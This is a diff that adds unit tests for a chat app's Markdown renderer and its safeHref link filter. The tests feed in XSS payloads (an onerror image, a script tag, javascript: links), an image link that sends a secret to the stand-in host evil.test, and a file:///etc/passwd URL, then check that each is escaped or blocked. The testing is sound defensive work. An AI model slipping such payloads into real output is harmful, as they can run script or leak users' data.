@@ -1,0 +1,59 @@
+import { renderToStaticMarkup } from 'react-dom/server';
+import { describe, expect, it } from 'vitest';
+import { Markdown } from './Markdown';
+import { safeHref } from './safeUrl';
+
+const html = (text: string) => renderToStaticMarkup(<Markdown text={text} final />);
+
+describe('chat markdown', () => {
+  it('renders the usual answer shapes', () => {
+    const out = html('# Title\n\nSome **bold**, *em*, `a < b && c`.\n\n- one\n- [x] done\n\n1. first\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```ts\nconst x = 1 < 2;\n```\n\n> quoted');
+    expect(out).toContain('<h1>Title</h1>');
+    expect(out).toContain('<strong>bold</strong>');
+    expect(out).toContain('<code>a &lt; b &amp;&amp; c</code>');
+    expect(out).toContain('<li><span>one</span></li>');
+    expect(out).toMatch(/<input type="checkbox"[^>]*checked/);
+    expect(out).toContain('<ol');
+    expect(out).toContain('<td>1</td>');
+    expect(out).toContain('<code data-lang="ts">const x = 1 &lt; 2;</code>');
+    expect(out).toContain('<blockquote><p>quoted</p></blockquote>');
+  });
+
+  it('shows raw HTML and script from the model as text, never as markup', () => {
+    const out = html('Hi <img src=x onerror=alert(1)> <script>steal()</script>\n\n<div onclick="x()">block</div>');
+    expect(out).not.toMatch(/<img|<script|<div onclick/);
+    expect(out).toContain('&lt;img src=x onerror=alert(1)&gt;');
+    expect(out).toContain('&lt;script&gt;steal()&lt;/script&gt;');
+    expect(out).toContain('&lt;div onclick=&quot;x()&quot;&gt;block&lt;/div&gt;');
+  });
+
+  it('keeps only web and mail links clickable and never loads images', () => {
+    const out = html('[ok](https://example.com/a) [bad](javascript:alert(1)) [rel](/api/secret) ![pixel](https://evil.test/?d=secret)');
+    expect(out).toContain('<a href="https://example.com/a"');
+    expect(out).toContain('rel="noopener noreferrer nofollow"');
+    expect(out).not.toContain('javascript:');
+    expect(out).not.toContain('href="/api/secret"');
+    expect(out).not.toContain('<img');
+    expect(out).toContain('image: pixel');
+  });
+
+  it('decodes entities once: the user sees the characters the model wrote', () => {
+    expect(html('Tom &amp; Jerry said 5 > 3 & "hi"')).toContain('Tom &amp; Jerry said 5 &gt; 3 &amp; &quot;hi&quot;');
+  });
+
+  it('renders a half-streamed answer without throwing (an open code fence is code so far)', () => {
+    const out = renderToStaticMarkup(<Markdown text={'Start\n\n```py\nprint(1)\n'} final={false} />);
+    expect(out).toContain('<code data-lang="py">print(1)</code>');
+  });
+});
+
+describe('safeHref', () => {
+  it('accepts http(s) and mailto only', () => {
+    expect(safeHref('https://a.b/c')).toBe('https://a.b/c');
+    expect(safeHref('mailto:x@y.z')).toBe('mailto:x@y.z');
+    expect(safeHref(' JavaScript:alert(1)')).toBeUndefined();
+    expect(safeHref('data:text/html,x')).toBeUndefined();
+    expect(safeHref('file:///etc/passwd')).toBeUndefined();
+    expect(safeHref('relative/path')).toBeUndefined();
+  });
+});
